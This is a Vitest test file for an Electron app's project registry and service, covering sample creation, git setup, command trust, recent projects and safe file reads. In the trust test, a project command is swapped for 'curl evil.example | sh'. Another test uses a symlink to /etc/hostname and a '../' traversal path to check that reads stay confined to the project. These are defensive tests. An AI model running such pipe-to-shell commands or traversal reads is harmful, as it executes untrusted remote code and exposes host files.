import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { findGit } from '#electron/git/findGit.ts';
import { createProjectRegistry } from '#electron/services/project/createProjectRegistry.ts';
import { createProjectService } from '#electron/services/project/createProjectService.ts';
import { countDrift } from '#electron/services/review/knownDrift.ts';
import { progressOf } from '#electron/services/project/progressOf.ts';
import { type ProjectState, projectStateSchema } from '#shared/project/project.ts';
import { testShell } from '#test/helpers/testShell.ts';

const SAMPLE = join(import.meta.dirname, '../../resources/sample');
const folder = () => realpathSync(mkdtempSync(join(tmpdir(), 'project-')));
const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8' }).trim();

async function service(dataDir = folder(), closed: string[] = []) {
  const program = await findGit();
  const registry = await createProjectRegistry({
    dataDir,
    clock: Date.now,
    program: program.ok ? program.value : null,
    progressOf,
    countDrift,
    opened: async () => undefined,
    closing: async ({ id, ledger }) => {
      // Whoever works with it may still write down how that ended.
      ledger.append('end', { closed: true });
      closed.push(id);
    },
    personName: () => 'Ada',
    defaultAgent: () => 'person',
  });
  onTestFinished(() => registry.dispose());
  const handlers = createProjectService({
    registry,
    sampleFolder: SAMPLE,
    shell: testShell,
    readiness: async () => ({ git: null, agents: [], model: null, freeBytes: null }),
    prepare: () => registry.prepare(),
  });
  return { handlers, projects: registry, dispose: () => registry.dispose() };
}
async function openSample(handlers: Awaited<ReturnType<typeof service>>['handlers']): Promise<ProjectState> {
  const opened = await handlers.createSample({ parent: folder() }, call);
  if (!opened.ok) throw new Error(opened.error.code);
  return projectStateSchema.parse(opened.value);
}

const call = { signal: new AbortController().signal };

test('makes the sample project, whose own tests pass with nothing to install', async () => {
  const { handlers } = await service();
  const opened = await openSample(handlers);
  expect(opened).toMatchObject({
    name: 'harbor',
    branch: 'main',
    trust: { state: 'untrusted' },
    commands: [{ name: 'test', command: 'npm test' }],
    specs: [{ id: '001-settings-editors', title: 'Who can edit workspace settings', criteria: 8, tasks: 8 }],
  });
  expect(git(opened.path, 'status', '--porcelain')).toBe('');
  const env = { ...process.env, NODE_TEST_CONTEXT: undefined };
  const output = execFileSync(process.execPath, ['--test'], {
    cwd: opened.path,
    encoding: 'utf8',
    env,
  });
  expect(output).toMatch(/fail 0/);
});

test('puts a second sample beside the first', async () => {
  const { handlers } = await service();
  const parent = folder();
  await handlers.createSample({ parent }, call);
  const second = await handlers.createSample({ parent }, call);
  expect(second).toMatchObject({ ok: true, value: { name: 'harbor-2' } });
});

test('says why a folder does not open', async () => {
  const { handlers } = await service();
  const plain = folder();
  writeFileSync(join(plain, 'notes.txt'), 'x');
  const empty = folder();
  git(empty, 'init', '-q');
  const bare = folder();
  git(bare, 'init', '-q', '--bare');
  const file = join(plain, 'notes.txt');
  const gone = join(plain, 'gone');

  expect(await handlers.open({ path: plain }, call)).toEqual({
    ok: false,
    error: { code: 'notARepository', path: plain, files: 1, parent: null },
  });
  expect(await handlers.open({ path: empty }, call)).toEqual({
    ok: false,
    error: { code: 'emptyRepository', path: empty, files: 0 },
  });
  expect(await handlers.open({ path: bare }, call)).toEqual({
    ok: false,
    error: { code: 'bareRepository', path: bare },
  });
  expect(await handlers.open({ path: gone }, call)).toEqual({
    ok: false,
    error: { code: 'pathGone', path: gone },
  });
  expect(await handlers.open({ path: file }, call)).toEqual({
    ok: false,
    error: { code: 'notAFolder', path: file },
  });
});

test('offers the repository above for a folder inside one', async () => {
  const { handlers } = await service();
  const sample = await openSample(handlers);
  expect(await handlers.open({ path: join(sample.path, 'src') }, call)).toMatchObject({
    ok: false,
    error: { code: 'notARepository', parent: sample.path },
  });
});

test('starts history in a plain folder and in an empty repository', async () => {
  const { handlers } = await service();
  for (const prepare of [() => undefined, (path: string) => git(path, 'init', '-q', '-b', 'trunk')]) {
    const path = folder();
    prepare(path);
    writeFileSync(join(path, '.gitignore'), 'secret\n');
    writeFileSync(join(path, 'secret'), 'x');
    writeFileSync(join(path, 'app.py'), 'print(1)\n');
    const opened = await handlers.startHistory({ path }, call);
    expect(opened).toMatchObject({ ok: true, value: { path } });
    expect(git(path, 'ls-files')).toBe('.gitignore\napp.py');
    expect(git(path, 'log', '-1', '--format=%an')).toBe('Ada');
  }
});

test('binds trust to the commands that were seen', async () => {
  const { handlers, projects } = await service();
  const opened = await openSample(handlers);
  const { id, commandsHash, path } = opened;
  expect(projects.get(id)?.nativeGit()).toBeNull();

  writeFileSync(join(path, 'overture.yaml'), 'overture: 1\ncommands:\n  test: curl evil.example | sh\n');
  expect(await handlers.trust({ projectId: id, commandsHash }, call)).toEqual({
    ok: false,
    error: { code: 'commandsChanged' },
  });
  const seen = projects.get(id)?.state().commandsHash ?? '';
  expect(await handlers.trust({ projectId: id, commandsHash: seen }, call)).toEqual({
    ok: true,
    value: null,
  });
  expect(projects.get(id)?.nativeGit()).not.toBeNull();

  writeFileSync(join(path, 'overture.yaml'), 'overture: 1\ncommands:\n  test: something else\n');
  await projects.get(id)?.refresh();
  expect(projects.get(id)?.state().trust).toEqual({ state: 'changed' });
  expect(projects.get(id)?.nativeGit()).toBeNull();
});

test('remembers what was opened, across restarts and moves', async () => {
  const dataDir = folder();
  const first = await service(dataDir);
  const opened = await openSample(first.handlers);
  await first.dispose();

  const second = await service(dataDir);
  const before = await second.handlers.recent({}, call);
  expect(before).toMatchObject({
    ok: true,
    value: [
      {
        name: 'harbor',
        missing: false,
        status: 'needsYou',
        spec: { title: 'Who can edit workspace settings' },
      },
    ],
  });
  renameSync(opened.path, `${opened.path}-moved`);
  expect(await second.handlers.recent({}, call)).toMatchObject({ ok: true, value: [{ missing: true }] });
});

test('tells its watchers when another program adds a spec', async () => {
  const { handlers } = await service();
  const opened = await openSample(handlers);
  const controller = new AbortController();
  const seen = new Promise<readonly string[]>((resolve) => {
    const feed = {
      snapshot: () => undefined,
      event: (state: ProjectState) =>
        state.specs.length === 2 && resolve(state.specs.map((spec) => spec.title).sort()),
    };
    void handlers.watch({ projectId: opened.id }, feed, { signal: controller.signal });
  });
  const spec = join(opened.path, 'specs', '002-export');
  mkdirSync(spec);
  writeFileSync(join(spec, 'spec.md'), '# Export as a spreadsheet\n');
  expect(await seen).toEqual(['Export as a spreadsheet', 'Who can edit workspace settings']);
  controller.abort();
});

test('shows text files of the project and nothing outside it', async () => {
  const { handlers } = await service();
  const opened = await openSample(handlers);
  const { id: projectId, path } = opened;
  symlinkSync('/etc/hostname', join(path, 'leak.txt'));
  writeFileSync(join(path, 'picture.png'), Buffer.from([1, 0, 2]));
  expect(await handlers.readFile({ projectId, path: 'README.md' }, call)).toMatchObject({ ok: true });
  for (const hidden of ['leak.txt', 'picture.png', '../../../../etc/hostname']) {
    expect(await handlers.readFile({ projectId, path: hidden }, call)).toMatchObject({
      ok: false,
      error: { code: 'fileUnreadable', path: hidden },
    });
  }
});

test('closes what no page shows and nothing goes on in, the longest unused first, and opens it again when asked', async () => {
  const closed: string[] = [];
  const { handlers, projects } = await service(undefined, closed);
  const shown = await openSample(handlers);
  const page = new AbortController();
  const watching = Promise.withResolvers<void>();
  const feed = { snapshot: () => watching.resolve(), event: () => undefined };
  const watched = handlers.watch({ projectId: shown.id }, feed, { signal: page.signal });
  await watching.promise;
  const others: ProjectState[] = [];
  for (let count = 0; count < 3; count += 1) others.push(await openSample(handlers));
  expect(closed).toEqual([]);

  // The first of them is used again, so the second has been left alone longest.
  await handlers.open({ path: others[0]?.path ?? '' }, call);
  others.push(await openSample(handlers));
  await expect.poll(() => closed).toEqual([others[1]?.id]);
  expect(projects.get(others[1]!.id)).toBeUndefined();
  expect(projects.get(shown.id)).toBeDefined();

  const letGo = projects.get(others[2]!.id)?.hold();
  others.push(await openSample(handlers));
  page.abort();
  await watched;
  await expect.poll(() => closed).toEqual([others[1]?.id, others[0]?.id]);
  letGo?.();
  await expect.poll(() => closed.length).toBe(3);

  const again = await projects.reopen(others[1]!.id);
  expect(again?.state().path).toBe(others[1]?.path);
  expect(again?.ledger.read('end')).toHaveLength(1);
});
